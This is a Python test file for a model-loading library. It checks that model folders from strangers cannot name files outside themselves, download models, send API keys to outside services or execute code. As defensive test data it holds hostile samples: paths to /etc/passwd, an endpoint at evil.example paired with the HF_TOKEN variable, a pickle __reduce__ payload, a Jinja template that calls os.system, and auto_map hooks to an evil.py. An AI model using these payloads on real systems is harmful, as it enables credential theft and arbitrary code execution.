"""Model folders from a stranger: what they name outside themselves, and what they would run."""

from __future__ import annotations

import json
import shutil

import pytest
import torch
from records import RECORDS
from tiny import make_encoder

from xlt.config.schema import Model, Plugin, ProjectionSettings
from xlt.errors import XltError
from xlt.files import write_sealed
from xlt.model.backbone import Backbone
from xlt.model.folder import INFO, ModelInfo, load_model, read_info, save_model
from xlt.permissions import OUTSIDE, PICKLE, allowing
from xlt.projection import predict
from xlt.runs.estimate import encoder_shape
from xlt.tasks.ner import NER
from xlt.tasks.question_generation import QuestionGeneration
from xlt.testing import translation
from xlt.transfer.stage import Prediction


@pytest.fixture(autouse=True)
def _own_cache(monkeypatch, tmp_path):
    monkeypatch.setenv("XLT_CACHE", str(tmp_path / "cache"))


@pytest.fixture(scope="module")
def encoder(tmp_path_factory):
    texts = [text.surface for d in RECORDS["ner"] for text in d.texts.values()]
    return make_encoder(tmp_path_factory.mktemp("encoder"), texts)


@pytest.fixture
def model(encoder, tmp_path):
    """A model folder as xlt writes them."""
    task = NER()
    backbone = Backbone(str(encoder), Model())
    labels = task.labels(RECORDS["ner"])
    folder = tmp_path / "model"
    info = ModelInfo("ner", {}, labels, "x", backbone.max_length)
    save_model(task.build(backbone, labels), info, backbone.tokenizer, folder)
    return folder


def stranger(folder, name, **changes):
    """A JSON file of a folder with changes, as if somebody else had written it: without seals and
    lists of files, which older models have not, either."""
    if (folder / INFO).exists() and name != INFO:
        stranger(folder, INFO)
    path = folder / name
    value = json.loads(path.read_text()) if path.exists() else {}
    if name == INFO:
        value = {key: one for key, one in value.items() if key not in ("seal", "files")}
        value["format"] = 1
    path.write_text(json.dumps(value | changes))


def through(**projection):
    settings = ProjectionSettings(**projection).model_dump(mode="json")
    prediction = {"mode": "translate", "through": "eng"}
    return {"language": "spa", "prediction": prediction, "projection": settings}


HOSTILE = {
    "a file of translations": {"translator": {"name": "given", "file": "/etc/passwd"}},
    "one above the folder": {"translator": {"name": "given", "file": "../secret"}},
    "its originals": {"translator": {"name": "given", "file": "a.txt", "originals": "/etc/group"}},
    "a file of links": {
        "translator": "backwards",
        "aligner": {"name": "given", "file": "/etc/passwd"},
    },
    "a translator to download": {"translator": {"name": "transformers", "model": "thief/evil"}},
    "an encoder to download": {
        "translator": "backwards",
        "aligner": {"name": "encoder", "encoder": "thief/evil"},
    },
    "parallel text": {
        "translator": "backwards",
        "aligner": {"name": "agreement", "parallel": ["/etc/passwd"]},
    },
    "a tagger": {"translator": "backwards", "candidates": "/home/me/model"},
    "a ranking": {"translator": "backwards", "ranking": {"model": "thief/evil"}},
    "a ranking backwards": {
        "translator": "backwards",
        "ranking": {"model": "inner", "backward": "/m"},
    },
}


@pytest.mark.parametrize("projection", HOSTILE.values(), ids=HOSTILE)
def test_a_stranger_names_nothing_outside_the_folder(tmp_path, projection):
    (tmp_path / "inner").mkdir()
    stranger(tmp_path, predict.FILE, **through(**projection))
    with translation.registered():
        with pytest.raises(XltError, match="which is no part of the model") as caught:
            predict.load(tmp_path)
        assert str(tmp_path / predict.FILE) in caught.value.where
        assert "--allow outside" in caught.value.fix
        with allowing(OUTSIDE):
            assert predict.load(tmp_path) is not None


def test_a_stranger_gets_no_key_of_the_environment(tmp_path):
    translator = {
        "name": "chat", "base_url": "http://evil.example/v1", "model": "m", "key_env": "HF_TOKEN",
    }  # fmt: skip
    stranger(tmp_path, predict.FILE, **through(translator=translator, aligner=None))
    said = r"evil\.example, with what the environment variable HF_TOKEN holds"
    with allowing(OUTSIDE):
        with pytest.raises(XltError, match=said) as caught:
            predict.load(tmp_path)
        assert "--allow online" in caught.value.fix
        with allowing("online"):
            with pytest.raises(XltError, match=said) as caught:
                predict.load(tmp_path)
            assert "--allow key" in caught.value.fix
            assert caught.value.where.endswith("(projection.translator.key_env)")
            with allowing("key"):
                assert predict.load(tmp_path) is not None


def test_a_link_leads_out_of_the_folder_too(tmp_path):
    (tmp_path / "a.txt").symlink_to("/etc/passwd")
    stranger(tmp_path, predict.FILE, **through(translator={"name": "given", "file": "a.txt"}))
    with pytest.raises(XltError, match="no part of the model"):
        predict.load(tmp_path)


def test_what_is_inside_is_found_there_and_needs_no_permission(tmp_path):
    (tmp_path / "inner").mkdir()
    inside = {
        "translator": {"name": "given", "file": "translations/{part}.txt"},
        "aligner": {"name": "encoder", "encoder": "xlt-mini"},
        "ranking": {"model": "inner"},
    }
    stranger(tmp_path, predict.FILE, **through(**inside))
    _, settings, _ = predict.load(tmp_path)
    assert settings.translator.options["file"] == str(tmp_path / "translations/{part}.txt")
    assert settings.aligner.options["encoder"] == "xlt-mini"
    assert settings.ranking.model == str(tmp_path / "inner")


def test_what_was_written_here_may_name_what_the_config_named(model, tmp_path):
    settings = ProjectionSettings(
        translator=Plugin(name="given", file="/data/translations.txt"), aligner=None
    )
    saved = Prediction("translate", "eng"), settings, "spa"
    predict.save(model, *saved)
    assert predict.load(model) == saved
    # Also after it was moved; but not when somebody has changed it, with or without its seal.
    shutil.copy(model / predict.FILE, tmp_path / predict.FILE)
    assert predict.load(tmp_path) == saved
    path = tmp_path / predict.FILE
    path.write_text(path.read_text().replace("/data/translations", "/home/me/secret"))
    with pytest.raises(XltError, match="damaged"):
        predict.load(tmp_path)
    unsealed = {key: one for key, one in json.loads(path.read_text()).items() if key != "seal"}
    path.write_text(json.dumps(unsealed))
    with pytest.raises(XltError, match="no part of the model"):
        predict.load(tmp_path)


def test_no_text_is_sent_to_a_service_that_a_folder_names(tmp_path):
    class Remote(translation.Backwards):
        online = True

    with translation.registered():
        translation.translators.register("backwards", Remote)
        stranger(tmp_path, predict.FILE, **through(translator="backwards"))
        with pytest.raises(XltError, match="sends texts") as caught:
            predict.load(tmp_path)
        assert "--allow online" in caught.value.fix


@pytest.mark.parametrize(
    "options", [{"answerer": "thief/evil"}, {"exemplar_folder": "/home/me/notes"}], ids=str
)
def test_nor_do_the_options_of_its_task(model, options):
    stranger(model, INFO, task=QuestionGeneration.name, options=options, labels={})
    with pytest.raises(XltError, match="no part of the model") as caught:
        load_model(model)
    assert caught.value.where == f"{model / INFO} (options)"


def test_pickle_is_read_on_demand_alone(model, encoder, tmp_path):
    class Bomb:
        def __reduce__(self):
            return (tmp_path.joinpath("exploded").touch, ())

    pickled = tmp_path / "pickled"
    shutil.copytree(encoder, pickled)
    weights = Backbone(str(encoder), Model()).encoder().state_dict()
    (pickled / "model.safetensors").unlink()
    torch.save(weights, pickled / "pytorch_model.bin")
    backbone = Backbone(str(pickled), Model())
    with pytest.raises(XltError, match=r"from pickle .* needs your consent") as caught:
        backbone.encoder()
    assert (caught.value.where, "--allow pickle" in caught.value.fix) == ("model.encoder", True)
    with allowing(PICKLE):
        assert backbone.encoder() is not None
        # Allowed is what tensors need, not whatever pickle can do.
        torch.save({"x": Bomb()}, pickled / "pytorch_model.bin")
        with pytest.raises(XltError, match="does not load as a model"):
            backbone.encoder()
    assert not (tmp_path / "exploded").exists()


def test_safetensors_come_first(encoder, tmp_path):
    both = tmp_path / "both"
    shutil.copytree(encoder, both)
    (both / "pytorch_model.bin").write_bytes(b"no pickle at all")
    assert Backbone(str(both), Model()).encoder() is not None
    with allowing(PICKLE):
        assert Backbone(str(both), Model()).encoder() is not None


def test_pickle_that_the_config_names(encoder, tmp_path):
    named = tmp_path / "named"
    shutil.copytree(encoder, named)
    stranger(named, "config.json", transformers_weights="adapter_model.bin")
    (named / "adapter_model.bin").write_bytes(b"x")
    with pytest.raises(XltError, match="from pickle"):
        Backbone(str(named), Model()).encoder()


def test_pickle_of_a_model_in_the_local_cache_of_the_hub(encoder, tmp_path, monkeypatch):
    import huggingface_hub.constants

    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_CACHE", str(tmp_path / "hub"))
    repository = tmp_path / "hub" / "models--old--bert"
    snapshot = repository / "snapshots" / ("0" * 40)
    shutil.copytree(encoder, snapshot)
    (repository / "refs").mkdir()
    (repository / "refs" / "main").write_text("0" * 40)
    weights = Backbone(str(encoder), Model()).encoder().state_dict()
    (snapshot / "model.safetensors").unlink()
    torch.save(weights, snapshot / "pytorch_model.bin")
    monkeypatch.setattr("transformers.utils.hub.constants.HF_HUB_CACHE", str(tmp_path / "hub"))
    backbone = Backbone("old/bert", Model())
    with pytest.raises(XltError, match="of old/bert from pickle"):
        backbone.encoder()
    with allowing(PICKLE):
        assert backbone.encoder() is not None


def test_an_adapter_brings_no_other_model_along(encoder, tmp_path):
    adapter = tmp_path / "adapter"
    shutil.copytree(encoder, adapter)
    stranger(adapter, "adapter_config.json", base_model_name_or_path="thief/evil")
    with pytest.raises(XltError, match="loads the model thief/evil") as caught:
        Backbone(str(adapter), Model()).encoder()
    assert "--allow outside" in caught.value.fix


def test_code_beside_a_finished_model_is_not_run(model, tmp_path):
    marker = tmp_path / "ran"
    (model / "evil.py").write_text(f"import pathlib; pathlib.Path({str(marker)!r}).touch()")
    auto = {
        f"Auto{kind}": f"evil.{kind}" for kind in ("Config", "Model", "ModelForTokenClassification")
    }
    stranger(model, "config.json", auto_map=auto)
    stranger(model, "tokenizer_config.json", auto_map={"AutoTokenizer": ["evil.T", "evil.T"]})
    stranger(model, "generation_config.json", custom_generate="evil", _from_model_config=False)
    load_model(model)[1].tokenizer  # noqa: B018
    assert not marker.exists()


def test_a_chat_template_is_never_rendered(model):
    template = "{{ cycler.__init__.__globals__.os.system('touch ran') }}{{ 1 / 0 }}"
    stranger(model, "tokenizer_config.json", chat_template=template)
    (model / "chat_template.jinja").write_text(template)
    task, backbone, _ = load_model(model)
    assert backbone.tokenizer("Ann sees Rome")["input_ids"]
    assert task.encode(RECORDS["ner"], backbone, None)


def test_no_kernel_is_fetched_that_a_config_names(model, monkeypatch):
    def fetch(*_, **__):
        raise AssertionError("a kernel was to be fetched")

    stranger(
        model,
        "config.json",
        attn_implementation="thief/kernel",
        _attn_implementation="thief/kernel",
    )
    monkeypatch.setattr(
        "transformers.integrations.hub_kernels.load_and_register_attn_kernel", fetch
    )
    with pytest.raises(XltError, match="runs the compiled kernel thief/kernel") as caught:
        load_model(model)
    assert "--allow remote-code" in caught.value.fix
    assert encoder_shape(Model(encoder=str(model))) is None


def test_a_header_of_weights_that_promises_too_much(model):
    stranger(model, INFO)
    path = model / "model.safetensors"
    path.write_bytes((2**62).to_bytes(8, "little") + path.read_bytes()[8:])
    with pytest.raises(XltError, match="cannot be read"):
        load_model(model)


@pytest.mark.parametrize("name", ["/dev/zero", "../../secret", "a/../../b"])
def test_the_list_of_a_model_s_files_stays_in_its_folder(model, name):
    about = json.loads((model / INFO).read_text())
    del about["seal"]
    about["files"][name] = [0, "0" * 64]
    (model / INFO).write_text(json.dumps(about))
    with pytest.raises(XltError, match="is damaged"):
        read_info(model)
    write_sealed(model / INFO, about)
    with pytest.raises(XltError, match=f"{INFO} is damaged: .*outside"):
        read_info(model)
